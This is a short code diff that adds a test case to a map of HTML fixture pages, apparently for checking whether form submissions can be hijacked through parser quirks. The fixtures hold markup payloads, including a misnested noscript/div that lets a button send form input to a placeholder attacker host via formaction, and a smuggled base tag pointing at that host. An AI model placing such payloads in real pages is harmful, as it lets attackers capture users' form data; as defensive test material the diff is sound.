@@ -73,6 +73,10 @@ const PAGES = {
     html: `<div><template></div><base href="/"></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
     click: "text=Pay",
   },
+  "/noscript-div": {
+    html: `<form method="post" action="/orders"><input name="q"><noscript><div></noscript></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
+    click: 'button[formmethod="get"]',
+  },
   "/sloppy-but-alike": {
     html: `<form method="post" action="/orders"><table><tr><td><input name="q"></table><div><span>Total</div><ul><li>one<li>two</ul><p>Note<button>Pay</button></form>`,
     click: "text=Pay",
